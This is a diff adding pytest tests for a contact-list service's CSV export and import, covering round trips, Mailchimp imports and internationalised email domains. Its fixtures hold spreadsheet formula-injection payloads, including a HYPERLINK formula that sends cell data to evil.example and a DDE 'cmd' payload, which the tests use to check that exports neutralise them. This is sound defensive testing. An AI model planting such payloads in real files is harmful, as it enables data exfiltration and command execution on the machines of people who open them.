@@ -1,0 +1,113 @@
+"""An export, imported: nothing changes where it came from, and everything is there where it was not."""
+
+import io
+from pathlib import Path
+
+import pytest
+
+from postlude.services.contacts import contacts as service
+from postlude.services.contacts import suppressions
+from postlude.store import Store, open_store
+
+from .conftest import CLOCK, Write, imported
+
+FIELDS = {
+    "note": "line one\r\nline two",
+    "path": "C:\\dir\\",
+    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "phone": "+49 30 1234",
+    "sum": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1)",
+    "tab": "\tTab",
+    "blanks": "  kept  ",
+    "quoted": "'=already",
+    "parts": "a,b;c\td|e",
+    "first_name": "Zoë",
+}
+NAMES = ['Sam "The Man" Roe', 'back\\"slash', "ends with \\", '=HYPERLINK("x")', "Zoë Ünïcode", ""]
+TAGS = ["VIP, Gold", 'a "b"', "plain", "=1+1"]
+
+
+@pytest.fixture
+def exported(store: Store) -> str:
+    for number, name in enumerate(NAMES):
+        made = store.contacts.add(f"c{number}@xn--mnchen-3ya.example", CLOCK.now(), name=name, fields=FIELDS)
+        for tag in TAGS:
+            store.contacts.tag_contact(store.contacts.tag(tag), made.id)
+    return export(store)
+
+
+def export(store: Store) -> str:
+    out = io.StringIO(newline="")
+    service.export(store, out)
+    return out.getvalue()
+
+
+def test_where_it_came_from_nothing_changes(store: Store, exported: str, written: Write) -> None:
+    job = imported(store, written(exported.encode()))
+    assert job.counts == {"rows": len(NAMES), "unchanged": len(NAMES)}
+    assert export(store) == exported
+
+
+def test_elsewhere_people_are_as_they_were(exported: str, written: Write, tmp_path: Path, store: Store) -> None:
+    del store
+    other = open_store(f"sqlite:///{tmp_path / 'other.sqlite'}")
+    imported(other, written(exported.encode()))
+    found = {one.spelled: one for one in other.contacts.page()}
+    for number, name in enumerate(NAMES):
+        one = found[f"c{number}@xn--mnchen-3ya.example"]
+        assert one.name == name
+        assert one.fields == FIELDS
+        assert sorted(other.contacts.tags_of([one.id])[one.id]) == sorted(TAGS)
+    other.close()
+
+
+def test_no_cell_of_an_export_is_a_formula(exported: str) -> None:
+    assert not [
+        cell for line in exported.split("\r\n") for cell in line.split(",") if cell.strip('"')[:1] in set("=+-@")
+    ]
+
+
+def test_suppressions_come_back_as_they_were(store: Store, tmp_path: Path) -> None:
+    suppressions.add(store, CLOCK, "+tag@example.org", by="=cmd", note="=1+1")
+    out = io.StringIO(newline="")
+    suppressions.export(store, out)
+    assert "'+tag@example.org" in out.getvalue()
+    store.suppressions.remove("+tag@example.org")
+    file = tmp_path / "list.csv"
+    file.write_text(out.getvalue(), newline="")
+    suppressions.import_file(store, CLOCK, file, "carol")
+    assert store.suppressions.get("+tag@example.org") is not None
+
+
+MAILCHIMP = (
+    "Email Address,First Name,Last Name,Birthday,MEMBER_RATING,OPTIN_TIME,TIMEZONE,CC,LEID,EUID,NOTES,TAGS\n"
+    'max@mail.example,Max,Moritz,06/13,4,"2024-02-12 17:59:31",europe/zurich,ch,33996391,8b66,,'
+    '"""Newsletter"",""VIP, Gold"""\n'
+)
+
+
+def test_an_audience_of_mailchimp_keeps_its_people_and_loses_its_bookkeeping(store: Store, written: Write) -> None:
+    imported(store, written(MAILCHIMP))
+    max_ = store.contacts.by_address("max@mail.example")
+    assert max_ is not None
+    assert (max_.name, max_.time_zone) == ("Max Moritz", "Europe/Zurich")
+    assert max_.fields == {"first_name": "Max", "last_name": "Moritz", "birthday": "06/13"}
+    assert sorted(store.contacts.tags_of([max_.id])[max_.id]) == ["Newsletter", "VIP, Gold"]
+
+
+@pytest.mark.parametrize("typed", ["info@münchen.example", "INFO@MÜNCHEN.EXAMPLE", "info@xn--mnchen-3ya.example"])
+def test_two_spellings_of_a_domain_are_one_contact(store: Store, written: Write, typed: str) -> None:
+    store.contacts.add("info@xn--mnchen-3ya.example", CLOCK.now())
+    assert "added" not in imported(store, written(f"email\n{typed}\n")).counts
+    assert store.contacts.by_address(typed) is not None
+
+
+@pytest.mark.parametrize("search", ["münchen", "MÜNCH", "info@münch", "info@münchen.example", "xn--mnchen"])
+def test_a_contact_and_a_suppression_are_found_as_they_are_shown(store: Store, search: str) -> None:
+    store.contacts.add("info@xn--mnchen-3ya.example", CLOCK.now())
+    store.contacts.add("other@example.org", CLOCK.now())
+    suppressions.add(store, CLOCK, "info@münchen.example", by="carol")
+    assert [one.address for one in store.contacts.page(search)] == ["info@xn--mnchen-3ya.example"]
+    assert store.contacts.count(search) == 1
+    assert [one.address for one in store.suppressions.latest(search=search)] == ["info@xn--mnchen-3ya.example"]
